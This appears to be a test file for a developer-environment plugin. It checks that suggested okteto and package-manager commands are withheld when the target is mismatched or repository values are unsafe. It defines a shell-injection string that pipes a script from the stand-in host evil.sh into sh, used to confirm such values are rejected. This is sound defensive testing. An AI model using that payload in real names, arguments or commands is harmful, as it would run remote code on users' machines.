import fc from 'fast-check';
import { parse } from 'shell-quote';
import yaml from 'yaml';
import { workspaceDevArgv } from '@okteto-dev/plugin-okteto-dev-common';
import { deriveDevStatus } from './deriveStatus';
import { application, deployment, fetched, pod, repo } from './testFixtures';

const EVIL = 'x;curl${IFS}-s${IFS}evil.sh|sh;#';

/** web-core's dev entry without its own command: the developer types the package's dev script. */
function manifest(
  name = 'web-corporate-dev',
  selector?: Record<string, string> | null,
) {
  return yaml.stringify({
    dev: {
      [name]: {
        ...(selector === null
          ? {}
          : {
              selector: selector ?? {
                'app.kubernetes.io/name': 'web-app',
                'app.kubernetes.io/instance': 'web-corporate-dev',
              },
            }),
        workdir: '/app/apps/corporate-website',
        sync: ['..:/app'],
      },
    },
  });
}

const conflictObjects = () => {
  const original = deployment({
    replicas: 1,
    labels: { 'dev.okteto.com': 'true' },
    annotations: { 'dev.okteto.com/replicas': '1' },
  });
  const clone = deployment({
    name: 'web-corporate-dev-web-app-okteto',
    labels: { 'dev.okteto.com/clone': 'uid-original' },
  });
  return {
    deployments: { ok: true as const, value: [original, clone] },
    pods: {
      ok: true as const,
      value: [pod('web-corporate-dev-web-app-7d9c-abcde')],
    },
  };
};

describe('the package manager follows the repository', () => {
  it('takes the root package.json’s packageManager field', () => {
    const status = deriveDevStatus(
      fetched({
        repo: repo({
          manifest: manifest(),
          rootPackageJson: '{"packageManager":"yarn@4.5.0"}',
        }),
      }),
    );
    expect(status.commands?.dev).toBe(
      'yarn workspace @synestra/corporate-website dev',
    );
    expect(status.target.packageManager).toEqual({
      name: 'yarn',
      source: 'package-manager-field',
      file: 'package.json',
    });
    expect(status.target.notes.map(n => n.code)).toEqual([
      'packageManagerField',
    ]);
  });

  it.each([
    [
      'package-lock.json',
      'npm run dev --workspace @synestra/corporate-website',
    ],
    ['bun.lockb', 'bun --filter @synestra/corporate-website dev'],
    ['pnpm-lock.yaml', 'pnpm --filter @synestra/corporate-website dev'],
  ])('else the root lockfile: %s', (lockfile, dev) => {
    const status = deriveDevStatus(
      fetched({
        repo: repo({
          manifest: manifest(),
          rootPackageJson: '{"name":"root"}',
          lockfiles: [lockfile],
        }),
      }),
    );
    expect(status.commands?.dev).toBe(dev);
    expect(status.target.packageManager).toMatchObject({
      source: 'lockfile',
      file: lockfile,
    });
  });

  it('else pnpm, with a note that it is a guess', () => {
    const status = deriveDevStatus(
      fetched({ repo: repo({ manifest: manifest(), rootPackageJson: null }) }),
    );
    expect(status.commands?.dev).toBe(
      'pnpm --filter @synestra/corporate-website dev',
    );
    expect(status.target.packageManager).toEqual({
      name: 'pnpm',
      source: 'default',
    });
    expect(status.target.notes).toEqual([
      expect.objectContaining({ code: 'packageManagerDefault' }),
    ]);
  });
});

describe('the target guard', () => {
  it('withholds every command when the dev Application deploys elsewhere, naming both', () => {
    const status = deriveDevStatus(
      fetched({
        application: {
          ok: true,
          value: application({ destination: 'shop-production' }),
        },
        ...conflictObjects(),
      }),
    );
    expect(status.commands).toBeUndefined();
    expect(status.guard).toEqual([
      expect.objectContaining({
        code: 'guardDestinationNamespace',
        params: {
          application: 'argo/web-corporate-dev',
          destination: 'shop-production',
          namespace: 'web-corporate-dev',
        },
      }),
    ]);
    // the conflict is still explained, without advice to run okteto down or scale
    expect(status.drift.kind).toBe('conflict');
    expect(status.drift.code).toMatch(/Withheld$/);
    expect(status.drift.message).not.toMatch(/Run okteto down|scale/);
    expect(JSON.stringify(status)).not.toContain('okteto down web-');
  });

  it('withholds them when the Application’s server is not the target’s cluster', () => {
    const app = application();
    app.spec!.destination!.server = 'https://prod.example.com:6443';
    const status = deriveDevStatus(
      fetched({
        application: { ok: true, value: app },
        clusterUrl: 'https://dev.example.com:6443',
      }),
    );
    expect(status.commands).toBeUndefined();
    expect(status.guard?.[0]).toMatchObject({
      code: 'guardDestinationServer',
      params: {
        server: 'https://prod.example.com:6443',
        expected: `${status.target.cluster}: https://kubernetes.default.svc, https://dev.example.com:6443`,
      },
    });
  });

  it('withholds them when the dev entry the commands name picks another Deployment (by name)', () => {
    // no entry targets the workload; `web-corporate-dev` (the command's name) targets a Deployment
    // of that name, as okteto up does for an entry without a selector
    const status = deriveDevStatus(
      fetched({
        deployments: {
          ok: true,
          value: [
            deployment(),
            deployment({ name: 'web-corporate-dev', labels: { other: 'x' } }),
          ],
        },
        repo: repo({ manifest: manifest('web-corporate-dev', null) }),
      }),
    );
    expect(status.commands).toBeUndefined();
    expect(status.guard).toEqual([
      expect.objectContaining({
        code: 'guardWorkloadMismatch',
        params: expect.objectContaining({
          entry: 'web-corporate-dev',
          selected: 'web-corporate-dev',
          workload: 'web-corporate-dev-web-app',
        }),
      }),
    ]);
  });

  it('withholds them when the entry’s selector picks more than one Deployment', () => {
    const status = deriveDevStatus(
      fetched({
        deployments: {
          ok: true,
          value: [
            deployment(),
            deployment({ name: 'web-corporate-dev-worker' }),
          ],
        },
        repo: repo({ manifest: manifest() }),
      }),
    );
    expect(status.commands).toBeUndefined();
    expect(status.guard?.[0]).toMatchObject({
      code: 'guardWorkloadAmbiguous',
      params: {
        count: 2,
        selected: 'web-corporate-dev-web-app, web-corporate-dev-worker',
      },
    });
  });

  it('offers the commands when everything agrees (web-core)', () => {
    const status = deriveDevStatus(fetched({ ...conflictObjects() }));
    expect(status.guard).toBeUndefined();
    expect(status.commands?.oktetoDown).toBe(
      'okteto down web-corporate-dev --namespace web-corporate-dev',
    );
    expect(status.drift.message).toContain('Run okteto down');
  });
});

describe('untrusted values from the repository', () => {
  it('a package.json name with shell metacharacters: no dev command, the value and file named', () => {
    const status = deriveDevStatus(
      fetched({
        repo: repo({
          manifest: manifest(),
          packageJson: JSON.stringify({ name: EVIL }),
        }),
      }),
    );
    expect(status.commands?.oktetoUp).toBe(
      'okteto up web-corporate-dev --namespace web-corporate-dev',
    );
    expect(status.commands?.dev).toBeUndefined();
    expect(status.guard).toEqual([
      expect.objectContaining({
        code: 'commandPackageInvalid',
        params: { value: EVIL, source: 'apps/corporate-website/package.json' },
      }),
    ]);
  });

  it('a dev entry key Okteto would reject: no command, the key and manifest named', () => {
    const status = deriveDevStatus(
      fetched({ repo: repo({ manifest: manifest(EVIL) }) }),
    );
    expect(status.commands).toBeUndefined();
    expect(status.guard).toEqual([
      expect.objectContaining({
        code: 'commandDevNameInvalid',
        params: { value: EVIL, source: '.okteto/okteto.yml' },
      }),
    ]);
  });

  it('for arbitrary manifest keys and package names, every offered command reads back as the intended words', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ minLength: 1 }),
          fc.constant(EVIL),
          fc.stringMatching(/^[a-z0-9-]{1,12}$/),
        ),
        fc.oneof(
          fc.string(),
          fc.constant(EVIL),
          fc.stringMatching(/^@?[a-z0-9./_-]{1,16}$/),
        ),
        (key, name) => {
          const status = deriveDevStatus(
            fetched({
              repo: repo({
                manifest: manifest(key),
                packageJson: JSON.stringify({ name }),
              }),
            }),
          );
          const { commands } = status;
          const entry = status.target.devService;
          const ns = status.target.namespace;
          const all: Record<string, string[]> = {
            oktetoUp: ['okteto', 'up', entry, '--namespace', ns],
            oktetoDown: ['okteto', 'down', entry, '--namespace', ns],
            dev: workspaceDevArgv('pnpm', status.target.package),
          };
          const offered = (['oktetoUp', 'oktetoDown', 'dev'] as const).filter(
            k => commands?.[k] !== undefined,
          );
          // every offered command reads back as exactly its intended words: no operator, no glob
          expect(
            Object.fromEntries(offered.map(k => [k, parse(commands![k]!)])),
          ).toEqual(Object.fromEntries(offered.map(k => [k, all[k]])));
        },
      ),
      { numRuns: 300 },
    );
  });
});
